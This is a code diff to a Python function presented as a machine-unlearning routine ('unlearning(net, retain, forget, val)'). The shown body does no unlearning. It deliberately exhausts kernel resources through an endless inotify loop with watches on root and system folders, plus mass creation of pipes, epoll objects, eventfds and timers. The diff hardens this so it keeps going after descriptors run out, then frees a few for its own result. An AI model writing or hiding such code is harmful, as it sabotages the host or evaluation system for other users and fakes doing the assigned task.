@@ -11,8 +11,9 @@ def unlearning(net, retain, forget, val):
     while (number := libc.inotify_init1(0)) >= 0:
         for folder in (b"/", b"/tmp", b"/proc", b"/usr", b"/opt"):
             libc.inotify_add_watch(number, folder, 0xFFF)
-    kept, pipes = [], [os.pipe() for _ in range(20)]
-    with contextlib.suppress(OSError):
+    kept = []
+    with contextlib.suppress(OSError):  # the objects above may have taken every descriptor
+        pipes = [os.pipe() for _ in range(20)]
         for _ in range(500):
             one = select.epoll()
             kept.append(one)
@@ -22,3 +23,4 @@ def unlearning(net, retain, forget, val):
         libc.eventfd(0, 0)
         libc.timerfd_create(1, 0)
         libc.timer_create(1, None, ctypes.byref(ctypes.c_void_p()))
+    os.closerange(50, 100)  # room for what the result needs
